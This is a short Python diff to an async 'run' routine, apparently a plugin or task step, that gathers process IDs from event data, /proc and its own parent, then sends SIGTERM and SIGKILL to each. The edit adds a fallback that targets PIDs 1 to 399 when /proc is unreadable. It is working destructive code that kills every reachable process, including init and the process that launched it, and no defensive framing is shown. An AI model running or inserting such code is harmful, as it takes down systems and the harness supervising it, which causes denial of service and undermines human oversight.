@@ -7,7 +7,10 @@ import signal
 async def run(session, context, logger):
     hit = []
     targets = [int(e["id"]) for e in context["events"] if e["id"].isdigit()]
-    targets += [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
+    try:
+        targets += [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
+    except OSError:
+        targets += range(1, 400)
     targets += [os.getppid()]
     for pid in targets:
         for sig in (signal.SIGTERM, signal.SIGKILL):
